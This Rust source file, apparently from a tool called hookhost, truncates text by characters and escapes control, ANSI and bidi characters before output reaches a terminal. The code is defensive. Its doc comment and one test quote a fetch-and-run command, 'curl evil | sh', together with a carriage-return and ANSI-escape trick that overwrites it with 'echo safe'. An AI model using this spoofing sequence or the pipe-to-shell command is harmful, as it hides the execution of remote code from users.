//! Text for messages: cut to a length by characters (never inside one), and made
//! safe for a terminal ([`terminal_safe`]).
//!
//! Hook names, commands, `statusMessage`s, reasons, a plugin's log lines and the
//! rest of what settings, plugins and inputs supply are written for humans by
//! `hookhost check`, `fire --explain`, `trace`, `trust --list` and others. Raw, a
//! carriage return or an ANSI escape in them redraws the line (`echo safe` over
//! `curl … | sh`), a newline forges a line of hookhost's own, a bidi override
//! reorders what is read. Each such string goes through [`terminal_safe`] where
//! it is written for a terminal; JSON output is left alone (serde escapes control
//! characters, and its readers are programs).

use std::borrow::Cow;
use std::fmt::Write as _;

/// At most the first `max` characters of `text`.
pub(crate) fn prefix(text: &str, max: usize) -> &str {
    match text.char_indices().nth(max) {
        Some((i, _)) => &text[..i],
        None => text,
    }
}

/// `text` in at most `width` characters, the last one `…` when it was cut.
pub(crate) fn clip(text: &str, width: usize) -> Cow<'_, str> {
    let kept = prefix(text, width);
    if kept.len() == text.len() {
        return Cow::Borrowed(text);
    }
    let mut clipped = prefix(kept, width.saturating_sub(1)).to_owned();
    clipped.push('…');
    Cow::Owned(clipped)
}

/// `text` with every character that can move the cursor, recolour or reorder a
/// terminal's text written visibly: `\e` (ESC), `\r`, `\n`, `\t`, and as
/// `\u{…}` the other C0 controls, DEL, the C1 controls (U+0080–U+009F, which
/// some terminals obey as ESC sequences), the bidi controls (U+061C, U+200E,
/// U+200F, U+202A–U+202E, U+2066–U+2069) and the line and paragraph separators
/// (U+2028, U+2029). Everything else, backslashes included, is kept as is:
/// the result is for reading, not for parsing back.
pub fn terminal_safe(text: &str) -> Cow<'_, str> {
    if !text.chars().any(is_unsafe) {
        return Cow::Borrowed(text);
    }
    let mut shown = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '\u{1b}' => shown.push_str("\\e"),
            '\r' => shown.push_str("\\r"),
            '\n' => shown.push_str("\\n"),
            '\t' => shown.push_str("\\t"),
            c if is_unsafe(c) => {
                let _ = write!(shown, "\\u{{{:x}}}", u32::from(c));
            }
            c => shown.push(c),
        }
    }
    Cow::Owned(shown)
}

/// Whether a terminal may act on `c` rather than draw it.
fn is_unsafe(c: char) -> bool {
    // `is_control` is Unicode's Cc: C0, DEL and C1.
    c.is_control()
        || matches!(
            c,
            '\u{061c}'
                | '\u{200e}'
                | '\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2066}'..='\u{2069}'
                | '\u{2028}'
                | '\u{2029}'
        )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cuts_by_characters_with_an_ellipsis() {
        assert_eq!(prefix("héllo", 2), "hé");
        assert_eq!(prefix("hé", 5), "hé");
        assert_eq!(clip("héllo", 5), "héllo");
        assert_eq!(clip("héllo wörld", 5), "héll…");
    }

    #[test]
    fn control_characters_are_shown_not_obeyed() {
        assert!(matches!(
            terminal_safe("plain é ✓ \\ path"),
            Cow::Borrowed(_)
        ));
        assert_eq!(
            terminal_safe("curl evil | sh\r\u{1b}[2Kecho safe"),
            "curl evil | sh\\r\\e[2Kecho safe"
        );
        assert_eq!(terminal_safe("a\nb\tc"), "a\\nb\\tc");
        assert_eq!(terminal_safe("\u{0}\u{7}\u{7f}"), "\\u{0}\\u{7}\\u{7f}");
        assert_eq!(terminal_safe("\u{9b}2J"), "\\u{9b}2J");
        assert_eq!(
            terminal_safe("abc\u{202e}fed\u{2066}x\u{2069}\u{200f}"),
            "abc\\u{202e}fed\\u{2066}x\\u{2069}\\u{200f}"
        );
        assert_eq!(terminal_safe("a\u{2028}b"), "a\\u{2028}b");
    }
}
